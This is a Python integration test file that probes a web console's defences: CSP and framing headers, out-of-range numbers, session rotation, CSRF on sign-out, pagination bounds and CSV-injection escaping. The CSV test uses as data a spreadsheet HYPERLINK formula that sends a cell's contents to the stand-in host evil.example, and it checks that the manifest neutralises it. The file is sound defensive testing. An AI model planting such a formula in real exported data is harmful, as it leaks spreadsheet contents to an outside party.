"""The console under attack, over HTTP (TestClient on the real app, PostgreSQL, an in-memory store): security
headers (CSP, framing, sniffing, caching), numbers out of range in URLs and forms, session rotation at
sign-in, sign-out under the rate limit, and the bounds of the models page and the job page.

The console's behaviour for a well-meaning user is in `test_console.py` (whose helpers these tests use).
"""

from __future__ import annotations

import io
import json
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import parse_qs

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, event, insert, select
from sqlalchemy.orm import Session, sessionmaker

from db.engine import transaction
from db.reviews import ReviewState
from db.status import ModelVersionStatus
from db.tables import ConsoleSession, ImageReview, JobItem, ModelVersion
from scheduler.api.cursors import encode_cursor
from scheduler.api.limits import MemoryRateLimiter
from scheduler.console.auth import SESSION_COOKIE
from scheduler.console.jobs import MAX_CATEGORY_OPTIONS, TileFilter
from scheduler.console.model_versions import MODELS_PAGE_SIZE
from tests.scheduler.conftest import Credentials
from tests.scheduler.test_console import FinishedJob, sign_in

pytestmark = pytest.mark.integration


# -- headers ---------------------------------------------------------------------------------------------


def test_console_responses_forbid_framing_sniffing_and_foreign_scripts(
    console: TestClient, finished: FinishedJob
) -> None:
    """Given a signed-in browser, when it opens pages, an image, a manifest and the script, then every answer
    carries a CSP allowing only the console's own scripts and no framing, X-Frame-Options DENY and nosniff;
    pages are not stored by caches, image bytes keep their private day; and the pages hold no inline script
    or style attribute the CSP would block."""
    base = f"/console/jobs/{finished.job_id}"
    pages = ["/console/jobs", base, f"{base}/images/0", f"{base}/tiles?after=-1", "/console/models"]
    others = [
        f"{base}/images/0/file",
        f"{base}/manifest.csv",
        f"{base}/summary",
        "/console/static/console.js",
    ]
    for url in [*pages, *others]:
        response = console.get(url)
        assert response.status_code == 200, url
        policy = response.headers.get("content-security-policy", "")
        assert "frame-ancestors 'none'" in policy and "script-src 'self'" in policy, url
        assert "default-src 'none'" in policy and "'unsafe-inline'" not in policy, url
        assert response.headers.get("x-frame-options") == "DENY", url
        assert response.headers.get("x-content-type-options") == "nosniff", url
    for url in pages:
        page = console.get(url)
        assert page.headers["cache-control"] == "no-store", url
        assert re.search(r"<script(?![^>]*\bsrc=)", page.text) is None, url
        assert re.search(r"\sstyle=|\son[a-z]+=", page.text) is None, url
    assert console.get(f"{base}/images/0/file").headers["cache-control"] == "private, max-age=86400"
    signed_out = TestClient(console.app, raise_server_exceptions=False).get("/console/sign-in")
    assert signed_out.headers.get("x-frame-options") == "DENY"
    assert "x-frame-options" not in console.get("/healthz").headers  # the API keeps its own headers


# -- numbers out of range --------------------------------------------------------------------------------


def test_numbers_out_of_range_in_console_urls_and_forms_are_422_not_500(
    console: TestClient, finished: FinishedJob, pg_factory: sessionmaker[Session]
) -> None:
    """Given a signed-in browser, when an image index, a grid cursor or a model version is larger than the
    database's integer (or a review names "²", a digit to Python that int() refuses), then each answer is a
    422 naming the field, never a 500, and no decision is stored."""
    base = f"/console/jobs/{finished.job_id}"
    huge = "9" * 20
    for url in (f"{base}/images/{huge}", f"{base}/images/{huge}/file", f"{base}/tiles?after={huge}",
                f"/console/models/tiny/{huge}/samples.png", f"/console/models/tiny/{huge}/loss.png"):  # fmt: skip
        assert console.get(url).status_code == 422, url
    # The jobs filter's model version and the models page's cursor: '²' passed isdigit(), 10**20 overflowed
    for url in (f"/console/jobs?model=tiny@{huge}", "/console/jobs?model=tiny@²", "/console/jobs?model=tiny@3000000000",
                f"/console/models?cursor={encode_cursor('tiny', int(huge))}",
                f"/console/models?cursor={encode_cursor('tiny', 3_000_000_000)}"):  # fmt: skip
        assert console.get(url).status_code == 422, url
    assert console.get("/console/jobs?model=tiny@1").status_code == 200
    promote = console.post(f"/console/models/tiny/{huge}/promote", data={"csrf_token": "x"})
    assert promote.status_code in (403, 422)  # the CSRF check or the bound: either way, not a 500
    for indices in ("²", "1" * 30, "0,99999999999", "٣"):
        answer = console.post(
            f"{base}/reviews",
            data={"decision": "approved", "indices": indices, "csrf_token": console.headers["X-Test-Csrf"]},
            headers={"Accept": "application/json"},
        )
        assert answer.status_code == 422 and "indices" in answer.text, indices
    with pg_factory() as session:
        assert session.scalars(select(ImageReview)).all() == []


# -- sessions --------------------------------------------------------------------------------------------


def test_signing_in_again_ends_the_browsers_previous_session(
    console: TestClient, tenant: Credentials, pg_factory: sessionmaker[Session]
) -> None:
    """Given a signed-in browser, when it signs in again, then it holds a new token and the token it held
    before no longer opens a page (nor does its row stay in the table)."""
    old = console.cookies.get(SESSION_COOKIE, path="/console")
    assert old
    sign_in(console, tenant.api_key)
    new = console.cookies.get(SESSION_COOKIE, path="/console")
    assert new and new != old
    with pg_factory() as session:
        assert len(session.scalars(select(ConsoleSession)).all()) == 1
    replay = TestClient(console.app, raise_server_exceptions=False)
    replay.cookies.set(SESSION_COOKIE, old, path="/console")
    assert replay.get("/console/jobs", follow_redirects=False).status_code == 303  # to the sign-in page
    replay.cookies.set(SESSION_COOKIE, new, path="/console")
    assert replay.get("/console/jobs", follow_redirects=False).status_code == 200


def test_sign_out_works_while_the_tenant_is_over_its_rate_limit(
    api: TestClient, make_tenant: Any, pg_factory: sessionmaker[Session]
) -> None:
    """Given a tenant allowed 3 requests a minute whose console user has used them all (pages answer 429),
    when the user signs out, then the session ends on the server all the same."""
    slow = make_tenant("slow", requests_per_minute=3)
    api.app.state.services.rate_limiter = MemoryRateLimiter(clock=lambda: 1_000_020.0)  # type: ignore[attr-defined]
    csrf = sign_in(api, slow.api_key)  # the sign-in and the jobs page: 2 requests
    assert api.get("/console/models").status_code == 200
    assert api.get("/console/jobs").status_code == 429

    answer = api.post("/console/sign-out", data={"csrf_token": csrf}, follow_redirects=False)

    assert answer.status_code == 303 and answer.headers["location"] == "/console/sign-in"
    with pg_factory() as session:
        assert session.scalars(select(ConsoleSession)).all() == []
    assert api.post("/console/sign-out", data={"csrf_token": "wrong"}).status_code == 401


def test_sign_out_still_needs_the_csrf_token(console: TestClient, pg_factory: sessionmaker[Session]) -> None:
    """Given a signed-in browser, when a sign-out is posted without the session's CSRF token, then 403 and
    the session stays."""
    assert console.post("/console/sign-out", data={"csrf_token": "x"}).status_code == 403
    assert console.post("/console/sign-out").status_code == 403
    with pg_factory() as session:
        assert len(session.scalars(select(ConsoleSession)).all()) == 1


# -- bounds ----------------------------------------------------------------------------------------------


def test_the_models_page_shows_a_bounded_page_of_versions_and_pages_through_all(
    console: TestClient, pg_factory: sessionmaker[Session], model_version: Any
) -> None:
    """Given 24 more registered versions than tiny@1, when the models page is opened, then it shows
    `MODELS_PAGE_SIZE` (10) of them with a link to more, and following the links shows each version once,
    in order (by name, newest first); a cursor the console did not issue is a 422."""
    with transaction(pg_factory) as session:
        for name, version in [("tiny", v) for v in range(2, 14)] + [("alpha", v) for v in range(1, 13)]:
            session.add(
                ModelVersion(
                    name=name, version=version, preset="p", categories=["a"], checkpoint_uri="memory://x/g.pt",
                    status=ModelVersionStatus.CANDIDATE,
                )
            )  # fmt: skip
    seen: list[str] = []
    url: str | None = "/console/models"
    pages = 0
    while url:
        page = console.get(url)
        assert page.status_code == 200
        refs = re.findall(r'<article class="model" aria-labelledby="model-([^"]+)"', page.text)
        assert 0 < len(refs) <= MODELS_PAGE_SIZE
        seen += refs
        pages += 1
        more = re.search(r'rel="next" href="([^"]+)"', page.text)
        url = more.group(1).replace("&amp;", "&") if more else None
    expected = [f"alpha-{v}" for v in range(12, 0, -1)] + [f"tiny-{v}" for v in range(13, 0, -1)]
    assert seen == expected and pages == 3
    assert console.get("/console/models?cursor=not-a-cursor").status_code == 422


@pytest.fixture
def rows_fetched(pg_factory: sessionmaker[Session]) -> Iterator[list[int]]:
    """The number of rows each SELECT on the app's database returned, while the test runs."""
    engine: Engine = pg_factory.kw["bind"]
    counts: list[int] = []

    def after(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
        if statement.lstrip().upper().startswith("SELECT"):
            counts.append(int(cursor.rowcount))

    event.listen(engine, "after_cursor_execute", after)
    yield counts
    event.remove(engine, "after_cursor_execute", after)


def test_the_job_page_of_a_job_of_many_items_reads_its_categories_not_its_items(
    console: TestClient, finished: FinishedJob, pg_factory: sessionmaker[Session], rows_fetched: list[int]
) -> None:
    """Given a job of 3,000 SKU items in two categories, when its page is opened, then its category filter
    offers the two categories and no query of the page returns more than a page of rows."""
    with transaction(pg_factory) as session:
        session.execute(
            insert(JobItem),
            [
                {"job_id": finished.job_id, "position": position, "category": "ab"[position % 2],
                 "class_index": position % 2, "count": 1, "first_index": 100 + position, "sku": f"S{position}"}
                for position in range(1, 3001)
            ],
        )  # fmt: skip
    rows_fetched.clear()

    page = console.get(f"/console/jobs/{finished.job_id}")

    assert page.status_code == 200
    assert re.findall(r'<option value="(a|b)"', page.text) == ["a", "b"]
    assert rows_fetched and max(rows_fetched) <= MAX_CATEGORY_OPTIONS


def test_grid_filters_travel_url_encoded_to_the_next_page_of_tiles() -> None:
    """Given a category holding `&`, `#` and `+`, when the grid writes its filters for the script's next-page
    request, then they parse back to the same category and add no other parameter."""
    filters = TileFilter("a&review=approved#+x", "succeeded", ReviewState.PENDING)

    parsed = parse_qs(filters.query_string(), keep_blank_values=True)

    assert parsed == {"category": ["a&review=approved#+x"], "status": ["succeeded"], "review": ["pending"]}


def test_the_csv_manifest_shows_formula_like_text_as_text() -> None:
    """A tenant's SKU or error text that starts like a formula reaches the catalog team's spreadsheet as text
    (`'` first, OWASP's CSV-injection advice); numbers and plain text are unchanged."""
    import csv

    from scheduler.console.jobs import csv_pieces

    rows = [
        {
            "index": 0,
            "sku": '=HYPERLINK("http://evil.example/?x="&A1,"open")',
            "score": -0.5,
            "status": "succeeded",
        },
        {"index": 1, "sku": "+1-555", "error": "@SUM(A1)", "status": "failed"},
        {"index": 2, "sku": "-7", "category": "\tcoat", "status": "succeeded"},
        {"index": 3, "sku": "SKU-3", "category": "coat", "status": "succeeded"},
    ]
    jsonl = b"".join(json.dumps(row).encode() + b"\n" for row in rows)
    text = b"".join(csv_pieces([jsonl])).decode()
    read = list(csv.DictReader(io.StringIO(text)))
    assert [row["sku"] for row in read] == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"open")',
        "'+1-555",
        "'-7",
        "SKU-3",
    ]
    assert (read[0]["score"], read[1]["error"], read[2]["category"], read[3]["category"]) == (
        "-0.5",
        "'@SUM(A1)",
        "'\tcoat",
        "coat",
    )
